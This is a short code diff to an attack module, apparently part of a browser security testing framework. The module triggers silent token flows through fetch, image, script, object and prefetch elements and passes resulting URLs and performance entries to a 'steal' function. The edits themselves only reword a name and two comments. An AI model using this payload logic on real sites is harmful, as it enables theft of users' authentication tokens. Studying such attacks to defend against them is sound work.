@@ -1,7 +1,7 @@
 import { attack } from "../attack.js";
 
 export default attack({
-  name: "silent flow by fetch, image, script, object and prefetch",
+  name: "runs a silent flow by fetch, image, script, object and prefetch",
   threat: "acquisition of new tokens",
   target: "any",
   async payload(it) {
@@ -28,7 +28,7 @@ export default attack({
       try {
         for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value);
       } catch {
-        // Trusted Types are in the way of <object> and <embed>.
+        // Trusted Types refuse <object> and <embed>.
       }
       elements.push(element);
     }
@@ -40,7 +40,7 @@ export default attack({
         const { contentDocument } = element as HTMLObjectElement;
         it.steal(contentDocument?.URL);
       } catch {
-        // Of another origin.
+        // Cross-origin.
       }
     }
     it.steal(performance.getEntries());
